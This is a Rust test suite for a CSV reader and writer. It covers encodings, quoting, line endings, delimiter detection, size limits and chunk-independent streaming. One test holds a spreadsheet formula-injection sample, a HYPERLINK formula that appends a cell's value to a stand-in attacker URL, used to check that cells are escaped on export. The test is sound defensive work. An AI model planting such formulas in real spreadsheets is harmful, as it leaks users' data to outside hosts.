//! CSV in and out: the faults of real files, each with its answer, and that chunks change nothing.
#![cfg(feature = "formats")]

use cxm_core::formats::csv::{
    CellForm, CsvOptions, CsvReader, CsvRecord, CsvTable, CsvWarning, CsvWriteOptions, Delimiter, Encoding, read_csv, write_csv,
};
use cxm_core::{Code, Error};
use proptest::prelude::*;

fn read(bytes: &[u8]) -> Result<CsvTable, Error> {
    read_csv(bytes, CsvOptions::default())
}

fn rows(bytes: &[u8]) -> Vec<Vec<String>> {
    let table = read(bytes).unwrap();
    assert_eq!(table.rejected, []);
    table.rows
}

fn refused(bytes: &[u8]) -> Error {
    read(bytes).unwrap_err()
}

const ROW: [&str; 4] = ["a", "9", "2026-01-02T03:04:05Z", "ok"];

#[test]
fn a_byte_order_mark_is_no_part_of_the_first_name() {
    let table = read(b"\xef\xbb\xbfid,score,at,comment\na,9,2026-01-02T03:04:05Z,ok\n").unwrap();
    assert_eq!(table.header.names(), ["id", "score", "at", "comment"]);
    assert_eq!(table.rows, [ROW]);
}

#[test]
fn crlf_cr_and_lf_end_a_line() {
    for end in ["\r\n", "\r", "\n"] {
        let text = format!("id,score,at,comment{end}a,9,2026-01-02T03:04:05Z,ok{end}");
        let table = read(text.as_bytes()).unwrap();
        assert_eq!((table.rows, table.line), (vec![ROW.map(str::to_owned).to_vec()], vec![2]), "{end:?}");
    }
}

#[test]
fn mixed_line_ends_count_one_line_each() {
    let table = read(b"a,b\r1,2\r\n3,4\n\r\n5,6\r\r7,8").unwrap();
    assert_eq!(table.rows, [["1", "2"], ["3", "4"], ["5", "6"], ["7", "8"]]);
    assert_eq!(table.line, [2, 3, 5, 7]);
    assert_eq!(table.row, [0, 1, 2, 3]);
}

#[test]
fn a_quoted_cell_holds_line_ends_delimiters_and_quotes() {
    let bytes =
        b"id,score,at,comment\na,9,2026-01-02T03:04:05Z,\"line1\nline2, with \"\"quotes\"\"\"\nb,2,2026-01-02T03:04:05Z,x\n";
    let table = read(bytes).unwrap();
    assert_eq!(table.rows[0][3], "line1\nline2, with \"quotes\"");
    assert_eq!((table.row, table.line), (vec![0, 1], vec![2, 4]));
}

#[test]
fn lines_within_quotes_are_counted_by_their_line_end() {
    let table = read(b"a,b\n1,\"x\r\ny\rz\n\"\n2,u\n").unwrap();
    assert_eq!(table.line, [2, 6]);
    assert_eq!(table.rows[0][1], "x\r\ny\rz\n");
}

#[test]
fn a_quote_that_is_never_closed_is_named_by_the_line_where_it_opened() {
    let error = refused(b"id,score,at,comment\na,9,2026-01-02T03:04:05Z,\"never closed\nb,8,2026-01-02T03:04:05Z,x\n");
    assert_eq!((error.code(), error.line(), error.row()), (Code::InvalidCsv, Some(2), Some(0)));
    assert_eq!(error.message(), "unclosed quote opened at line 2");
}

#[test]
fn a_workbook_or_a_packed_file_is_named_as_what_it_is() {
    for (bytes, kind) in [
        (&b"PK\x03\x04 and more"[..], "a zip archive or an Excel workbook"),
        (b"\x1f\x8b\x08\0 and more", "a gzip file"),
        (b"\xd0\xcf\x11\xe0 and more", "an Excel workbook"),
    ] {
        let error = refused(bytes);
        assert_eq!((error.code(), error.line(), error.got()), (Code::InvalidCsv, Some(1), Some(kind)));
    }
    assert!(read(b"PK\n1\n").is_ok());
}

#[test]
fn a_missing_column_is_named_with_the_columns_there_are() {
    let table = read(b"id,at,comment\na,2026-01-02T03:04:05Z,ok\n").unwrap();
    let error = table.header.require("score").unwrap_err();
    assert_eq!((error.code(), error.field()), (Code::UnknownColumn, Some("score")));
    assert_eq!(error.message(), "no column \"score\"; the file has \"id\", \"at\", \"comment\"");
}

#[test]
fn a_short_row_is_rejected_and_the_next_is_read() {
    let table = read(b"id,score,at,comment\na,9\nb,8,2026-01-02T03:04:05Z,x\n").unwrap();
    let [error] = table.rejected.as_slice() else { panic!("one reject") };
    assert_eq!((error.code(), error.row(), error.line()), (Code::InvalidCsv, Some(0), Some(2)));
    assert_eq!(error.message(), "row has 2 cells, header has 4");
    assert_eq!((table.rows.len(), table.row), (1, vec![1]));
}

#[test]
fn a_long_row_is_rejected() {
    let table = read(b"id,score,at,comment\na,9,2026-01-02T03:04:05Z,ok,EXTRA\n").unwrap();
    assert_eq!(table.rejected[0].message(), "row has 5 cells, header has 4");
    assert_eq!(table.rows.len(), 0);
}

#[test]
fn a_column_that_stands_twice_is_named() {
    let error = refused(b"id,score,score\na,9,1\n");
    assert_eq!((error.code(), error.field(), error.line()), (Code::DuplicateId, Some("score"), Some(1)));
}

#[test]
fn utf16_with_a_mark_is_decoded_in_both_orders() {
    let text = "id,score,at,comment\na,9,2026-01-02T03:04:05Z,Gr\u{fc}\u{df}e \u{1F600}\n";
    let units: Vec<u16> = text.encode_utf16().collect();
    let little: Vec<u8> = [0xFF, 0xFE].into_iter().chain(units.iter().flat_map(|unit| unit.to_le_bytes())).collect();
    let big: Vec<u8> = [0xFE, 0xFF].into_iter().chain(units.iter().flat_map(|unit| unit.to_be_bytes())).collect();
    for bytes in [little, big] {
        assert_eq!(rows(&bytes)[0][3], "Gr\u{fc}\u{df}e \u{1F600}");
    }
}

#[test]
fn utf16_without_a_mark_is_refused_by_name_and_read_when_asked() {
    let big: Vec<u8> = "id,score\na,9\n".encode_utf16().flat_map(u16::to_be_bytes).collect();
    let little: Vec<u8> = "id,score\na,9\n".encode_utf16().flat_map(u16::to_le_bytes).collect();
    for (bytes, at) in [(&big, 0), (&little, 1)] {
        let error = refused(bytes);
        assert_eq!(error.code(), Code::InvalidEncoding);
        assert!(error.message().starts_with(&format!("NUL byte at offset {at}: likely UTF-16")), "{error}");
        let table = read_csv(bytes, CsvOptions::default().encoding(Encoding::Utf16)).unwrap();
        assert_eq!(table.rows, [["a", "9"]]);
    }
}

#[test]
fn a_broken_utf16_file_is_refused() {
    for tail in [&[0x00][..], &[0x3D, 0xD8], &[0x3D, 0xD8, b'x', 0], &[0x00, 0xDC]] {
        let mut bytes = vec![0xFF, 0xFE];
        bytes.extend("id,score\na,9\n".encode_utf16().flat_map(u16::to_le_bytes));
        bytes.extend(tail);
        let error = refused(&bytes);
        assert_eq!((error.code(), error.row(), error.line()), (Code::InvalidEncoding, Some(1), Some(3)), "{tail:?}");
        assert!(error.message().contains("byte 28"), "{error}");
    }
}

#[test]
fn latin1_is_refused_with_its_place_and_read_when_asked() {
    let bytes = b"id,score,at,comment\na,9,2026-01-02T03:04:05Z,Gr\xfc\xdfe\n";
    let error = refused(bytes);
    assert_eq!(
        (error.code(), error.row(), error.line(), error.field()),
        (Code::InvalidEncoding, Some(0), Some(2), Some("comment"))
    );
    // 20 bytes of header, "a,9,2026-01-02T03:04:05Z," is 25, then "Gr".
    assert!(error.message().starts_with("invalid UTF-8 at byte 47 in column \"comment\""), "{error}");
    assert!(error.message().contains("encoding=\"latin1\""), "{error}");
    for encoding in [Encoding::Latin1, Encoding::Windows1252] {
        let table = read_csv(bytes, CsvOptions::default().encoding(encoding)).unwrap();
        assert_eq!(table.rows[0][3], "Gr\u{fc}\u{df}e");
    }
}

#[test]
fn the_place_of_bad_bytes_counts_the_mark_and_doubled_quotes() {
    let error = refused(b"\xef\xbb\xbfid,x\na,\"\"\"\xff\"\n");
    assert!(error.message().starts_with("invalid UTF-8 at byte 13 in"), "{error}");
}

#[test]
fn half_a_letter_on_each_side_of_a_delimiter_is_no_letter() {
    let error = refused(b"id,x\n\xc3,\xbc\n");
    assert_eq!((error.code(), error.field()), (Code::InvalidEncoding, Some("id")));
}

#[test]
fn windows_1252_has_its_own_signs_and_five_holes() {
    let options = CsvOptions::default().encoding(Encoding::Windows1252);
    assert_eq!(read_csv(b"x,y\n\x80,\x9f\n", options.clone()).unwrap().rows, [["\u{20AC}", "\u{178}"]]);
    let error = read_csv(b"x,y\n1,\x81\n", options).unwrap_err();
    assert_eq!((error.code(), error.row(), error.line()), (Code::InvalidEncoding, Some(0), Some(2)));
    assert!(error.message().contains("byte 6"), "{error}");
}

#[test]
fn a_mark_that_is_not_the_encoding_asked_for_is_refused() {
    let error = read_csv(b"\xef\xbb\xbfid\na\n", CsvOptions::default().encoding(Encoding::Latin1)).unwrap_err();
    assert_eq!((error.code(), error.wanted(), error.got()), (Code::InvalidEncoding, Some("utf-8"), Some("latin1")));
}

#[test]
fn twice_encoded_text_is_kept_as_it_is() {
    assert_eq!(rows("id,x\na,GrÃ¼ÃŸe\n".as_bytes()), [["a", "GrÃ¼ÃŸe"]]);
}

#[test]
fn a_nul_rejects_its_row() {
    let table = read(b"id,score,at,comment\na,9,2026-01-02T03:04:05Z,a\0b\nb,8,,\n").unwrap();
    let [error] = table.rejected.as_slice() else { panic!("one reject") };
    assert_eq!((error.code(), error.row(), error.field()), (Code::InvalidCsv, Some(0), Some("comment")));
    assert_eq!(error.message(), "NUL at byte 46 in column \"comment\"");
    assert_eq!(table.row, [1]);
}

#[test]
fn a_file_cut_within_a_row_keeps_the_rows_before() {
    let table = read(b"id,score,at,comment\na,9,2026-01-02T03:04:05Z,ok\nb,8,2026-01-0").unwrap();
    assert_eq!(table.rows, [ROW]);
    assert_eq!(table.rejected[0].message(), "row has 3 cells, header has 4");
    assert_eq!((table.rejected[0].row(), table.rejected[0].line()), (Some(1), Some(3)));
}

#[test]
fn a_file_without_a_header_is_refused() {
    for bytes in [&b""[..], b"\xef\xbb\xbf", b"\n\r\n\r", b",,\na,b,c\n", b"  \n"] {
        let error = refused(bytes);
        assert_eq!(error.code(), Code::InvalidCsv);
        assert!(error.message().starts_with("no header"), "{error}");
    }
}

#[test]
fn a_header_alone_has_no_rows() {
    let table = read(b"id,score,at,comment\n").unwrap();
    assert_eq!((table.header.len(), table.rows.len(), table.rejected.len()), (4, 0, 0));
}

#[test]
fn blank_lines_are_skipped_but_quoted_nothing_is_a_cell() {
    assert_eq!(rows(b"id,score,at,comment\n\n\na,9,2026-01-02T03:04:05Z,ok\n\n\n"), [ROW]);
    assert_eq!(rows(b"x\n\n\"\"\ny\n"), [[""], ["y"]]);
}

#[test]
fn columns_without_a_name_are_dropped_at_the_end_and_named_elsewhere() {
    let table = read(b"id,score,at,comment,,\na,9,2026-01-02T03:04:05Z,ok,,\nb,9,,\nc,9,,,x,\n").unwrap();
    assert_eq!(table.rows, [ROW, ["b", "9", "", ""]]);
    assert_eq!(table.header.warnings(), [CsvWarning::UnnamedColumnsDropped { count: 2 }]);
    assert_eq!(table.rejected[0].row(), Some(2));
    let table = read(b",id\n0,a\n").unwrap();
    assert_eq!(table.header.names(), ["column_1", "id"]);
    assert_eq!(table.header.warnings(), [CsvWarning::ColumnNamed { name: "column_1".to_owned() }]);
}

#[test]
fn names_are_trimmed_and_cells_are_not() {
    let table = read("id , score\n a ,\u{a0}9\u{2003}\n".as_bytes()).unwrap();
    assert_eq!(table.header.names(), ["id", "score"]);
    assert_eq!(table.rows, [[" a ", "\u{a0}9\u{2003}"]]);
}

#[test]
fn the_delimiter_is_detected_from_the_header_and_the_first_rows() {
    assert_eq!(read(b"id;score\na;9\n").unwrap().delimiter, Delimiter::SEMICOLON);
    assert_eq!(read(b"id\tscore\na\t9\n").unwrap().delimiter, Delimiter::TAB);
    assert_eq!(read(b"id|score\na|9").unwrap().delimiter, Delimiter::PIPE);
    assert_eq!(read(b"id;score;spend\na;9;1.234,56\nb;8;0,5\n").unwrap().rows[0][2], "1.234,56");
    // The comma splits the header too, but no row agrees with it.
    assert_eq!(read(b"id;how likely, 0 to 10\na;9\nb;10\n").unwrap().delimiter, Delimiter::SEMICOLON);
    assert_eq!(read(b"\"a;b;c\",d\n1,2\n").unwrap().header.names(), ["a;b;c", "d"]);
    assert_eq!(read(b"only\n1\n").unwrap().delimiter, Delimiter::COMMA);
}

#[test]
fn a_wrong_delimiter_is_guessed_in_the_message() {
    let table = read_csv(b"id;score\na;9\n", CsvOptions::default().delimiter(Delimiter::COMMA)).unwrap();
    let error = table.header.require("score").unwrap_err();
    assert_eq!(error.message(), "no column \"score\"; the file has \"id;score\"; is the delimiter \";\"?");
}

#[test]
fn text_after_a_closing_quote_rejects_its_row() {
    let table = read(b"id,x\na,\"b\"c\nd,e\"f\"\n").unwrap();
    assert_eq!(table.rejected[0].message(), "text follows a closing quote");
    assert_eq!(table.rows, [["d", "e\"f\""]]);
}

#[test]
fn limits_are_refused_by_name() {
    let options = CsvOptions::default().max_field_bytes(4);
    let error = read_csv(b"id,x\na,12345\n", options.clone()).unwrap_err();
    assert!(error.message().contains("max_field_bytes = 4"), "{error}");
    assert!(read_csv(b"id,x\na,1234\n", options.clone()).is_ok());
    let error = read_csv(b"id,x\na,\"b\nc\n,d\n", options).unwrap_err();
    assert!(error.message().contains("its quote opened at line 2"), "{error}");
    let error = read_csv(b"a,b,c\n1,2,3\n", CsvOptions::default().max_columns(2)).unwrap_err();
    assert!(error.message().contains("max_columns = 2"), "{error}");
    let error = read_csv(b"a,b\n1234,5678\n", CsvOptions::default().max_record_bytes(7)).unwrap_err();
    assert!(error.message().contains("max_record_bytes = 7"), "{error}");
}

#[test]
fn a_row_of_a_million_cells_is_counted_not_kept() {
    let mut bytes = b"a,b\n".to_vec();
    bytes.resize(1_000_003, b',');
    assert_eq!(read(&bytes).unwrap().rejected[0].message(), "row has 1000000 cells, header has 2");
}

#[test]
fn an_error_stays() {
    let mut reader = CsvReader::new(CsvOptions::default().delimiter(Delimiter::COMMA));
    let error = reader.feed(b"a,a\n", |_| Ok(())).unwrap_err();
    assert_eq!(reader.feed(b"1,2\n", |_| Ok(())).unwrap_err(), error);
    assert_eq!(reader.finish(|_| Ok(())).unwrap_err(), error);
}

#[test]
fn a_sink_stops_the_reading() {
    let mut reader = CsvReader::new(CsvOptions::default());
    let mut seen = 0;
    reader.feed(b"a,b\n1\n2,3\n", |_| Ok(())).unwrap();
    let error = reader
        .finish(|record| {
            seen += 1;
            if let CsvRecord::Rejected(error) = record { Err(error) } else { Ok(()) }
        })
        .unwrap_err();
    assert_eq!((error.row(), seen), (Some(0), 1));
}

#[test]
fn formulas_are_read_as_they_are_and_written_safe_when_asked() {
    let cells = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+1", "@SUM(A1)", "\t=1+1", "-5 stars", "\r=1", "ok"];
    let bytes = b"id,comment\na,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"\nb,+1+1\nc,@SUM(A1)\nd,\"\t=1+1\"\ne,-5 stars\nf,\"\r=1\"\ng,ok\n";
    let table = read(bytes).unwrap();
    let read_cells: Vec<&str> = table.rows.iter().map(|row| row[1].as_str()).collect();
    assert_eq!(read_cells, cells);
    let safe = CsvWriteOptions::default().form(CellForm::SpreadsheetSafe);
    let written = rows(write_csv(table.header.names(), &table.rows, &safe).unwrap().as_bytes());
    for (before, after) in cells.iter().zip(&written) {
        let want = if *before == "ok" { "ok".to_owned() } else { format!("'{before}") };
        assert_eq!(after[1], want);
    }
    let plain = write_csv(table.header.names(), &table.rows, &CsvWriteOptions::default()).unwrap();
    assert_eq!(rows(plain.as_bytes()), table.rows);
}

#[test]
fn cells_that_a_score_will_judge_come_through_as_they_are() {
    let cells = [
        "11",
        "-1",
        "8.5",
        "9.0",
        "10 - Extremely likely",
        "0 - Not at all likely",
        "5 (Neutral)",
        "NULL",
        "#N/A",
        "99",
        "-99",
        "1,234",
        "\u{ff19}",
        "\u{669}",
        "1e1",
        "0x0A",
        "1_0",
        "010",
        "inf",
        "-Infinity",
        "1e999",
    ];
    let body: Vec<String> = cells.iter().map(|cell| format!("a,\"{cell}\"\n")).collect();
    let read: Vec<String> =
        rows(format!("id,score\n{}", body.concat()).as_bytes()).into_iter().map(|mut row| row.remove(1)).collect();
    assert_eq!(read, cells);
}

#[test]
fn what_csv_cannot_hold_is_not_written() {
    let options = CsvWriteOptions::default();
    assert_eq!(write_csv(&["a", "b"], [["1"]], &options).unwrap_err().code(), Code::LengthMismatch);
    assert_eq!(write_csv(&["a"], [["\0"]], &options).unwrap_err().row(), Some(0));
}

#[test]
fn a_file_longer_than_the_sample_reads_the_same_in_any_chunks() {
    let bytes = include_bytes!("../../examples/data/survey_export_2026.csv");
    let options = CsvOptions::default();
    let whole = in_chunks(bytes, &[], &options);
    assert_eq!((whole.0.len(), &whole.1), (10_402, &Ok(())));
    for step in [4_093, 65_535, 65_536, 65_537, 1_000_000] {
        let cuts: Vec<usize> = (step..bytes.len()).step_by(step).collect();
        assert!(in_chunks(bytes, &cuts, &options) == whole, "chunks of {step}");
    }
}

/// What a file gives when it comes in chunks cut at `cuts`: events in words, and the outcome.
fn in_chunks(bytes: &[u8], cuts: &[usize], options: &CsvOptions) -> (Vec<String>, Result<(), Error>) {
    let mut events = Vec::new();
    let mut sink = |record: CsvRecord<'_>| {
        events.push(match record {
            CsvRecord::Row(row) => format!("{} {} {:?}", row.row(), row.line(), row.iter().collect::<Vec<_>>()),
            other => format!("{other:?}"),
        });
        Ok(())
    };
    let mut reader = CsvReader::new(options.clone());
    let mut start = 0;
    let mut outcome = Ok(());
    for &cut in cuts.iter().chain([&bytes.len()]) {
        if outcome.is_ok() && cut > start {
            outcome = reader.feed(&bytes[start..cut], &mut sink);
            start = cut;
        }
    }
    let outcome = outcome.and_then(|()| reader.finish(&mut sink));
    (events, outcome)
}

const HEADERS: &[&[u8]] = &[b"", b"a,b\n", b"\xef\xbb\xbfa;b;c\r\n", b"x\r", b"\xff\xfea\0,\0b\0\n\0"];
const ENCODINGS: &[Option<Encoding>] = &[None, None, Some(Encoding::Latin1), Some(Encoding::Windows1252), Some(Encoding::Utf16)];

/// Text made of what matters to a reader of CSV.
fn messy() -> impl Strategy<Value = Vec<u8>> {
    const PIECES: &[&[u8]] = &[
        b",",
        b";",
        b"\"",
        b"\"\"",
        b"\n",
        b"\r",
        b"\r\n",
        b"a",
        b"9",
        "ü".as_bytes(),
        b"\xff",
        b"\0",
        b" ",
        b"\xef\xbb\xbf",
        b",\"x\ny\",",
    ];
    prop::collection::vec(prop::sample::select(PIECES), 0..60).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2000, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn where_the_chunks_are_cut_changes_nothing(
        messy in messy(),
        header in prop::sample::select(HEADERS),
        encoding in prop::sample::select(ENCODINGS),
        cuts in prop::collection::vec(0..200_usize, 0..6),
        limits in (3..40_usize, 3..60_usize, 2..9_usize),
        comma in any::<bool>(),
    ) {
        let bytes = [header, &messy].concat();
        let mut options = CsvOptions::default().max_field_bytes(limits.0).max_record_bytes(limits.1).max_columns(limits.2);
        options.encoding = encoding;
        options.delimiter = comma.then_some(Delimiter::COMMA);
        let whole = in_chunks(&bytes, &[], &options);
        let every: Vec<usize> = (0..bytes.len()).collect();
        prop_assert_eq!(&in_chunks(&bytes, &every, &options), &whole);
        let mut cuts: Vec<usize> = cuts.into_iter().filter(|cut| *cut < bytes.len()).collect();
        cuts.sort_unstable();
        prop_assert_eq!(&in_chunks(&bytes, &cuts, &options), &whole);
    }

    #[test]
    fn every_record_is_counted_once(messy in messy()) {
        let bytes = [b"a,b\n".as_slice(), &messy].concat();
        if let Ok(table) = read_csv(&bytes, CsvOptions::default().delimiter(Delimiter::COMMA)) {
            let mut seen: Vec<u64> = table.row.iter().copied().chain(table.rejected.iter().filter_map(Error::row)).collect();
            seen.sort_unstable();
            prop_assert_eq!(seen.len(), table.rows.len() + table.rejected.len());
            prop_assert!(seen.iter().copied().eq(0..seen.len() as u64));
        }
    }

    #[test]
    fn what_is_written_plain_is_read_back(
        table in (1..5_usize).prop_flat_map(|columns| prop::collection::vec(
            prop::collection::vec("[ab ,;|\t\"\r\nü=\u{feff}'-]{0,6}", columns), 0..8)),
        delimiter in prop::sample::select(Delimiter::DETECTED),
    ) {
        let columns = table.first().map_or(1, Vec::len);
        let header: Vec<String> = (0..columns).map(|at| format!("{}name {at}; ", "\u{feff}".repeat(at))).collect();
        let text = write_csv(&header, &table, &CsvWriteOptions::default().delimiter(delimiter)).unwrap();
        for options in [CsvOptions::default().delimiter(delimiter), CsvOptions::default()] {
            let back = read_csv(text.as_bytes(), options).unwrap();
            prop_assert_eq!(&back.rejected, &vec![]);
            prop_assert_eq!(back.header.names(), &header[..]);
            prop_assert_eq!(&back.rows, &table);
        }
    }
}
